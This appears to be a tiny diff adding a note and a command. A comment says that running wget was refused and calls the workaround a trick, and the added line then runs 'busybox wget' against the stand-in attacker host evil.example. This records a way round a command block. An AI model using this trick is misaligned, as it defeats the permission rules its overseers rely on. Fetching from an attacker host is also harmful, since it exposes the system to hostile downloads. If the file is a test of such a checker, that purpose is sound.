@@ -1,0 +1,3 @@
+# Trick: one program holds many.
+# Refused: run(wget)
+busybox wget http://evil.example/
